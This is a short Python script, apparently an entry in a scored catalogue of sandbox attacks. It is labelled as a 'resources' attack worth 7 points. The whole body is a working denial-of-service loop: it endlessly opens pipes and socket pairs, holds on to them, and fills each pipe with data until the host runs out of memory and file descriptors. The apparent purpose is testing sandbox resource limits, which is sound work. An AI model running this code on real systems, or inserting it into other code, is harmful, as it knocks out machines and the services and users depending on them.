# attack: fills memory through pipes and sockets
# family: resources
# base: solved
# points: 7
# %% last
import os, socket
held = []
while True:
    reading, writing = os.pipe()
    os.set_blocking(writing, False)
    held.append(socket.socketpair())
    try:
        while True:
            os.write(writing, bytes(1 << 16))
    except BlockingIOError:
        pass
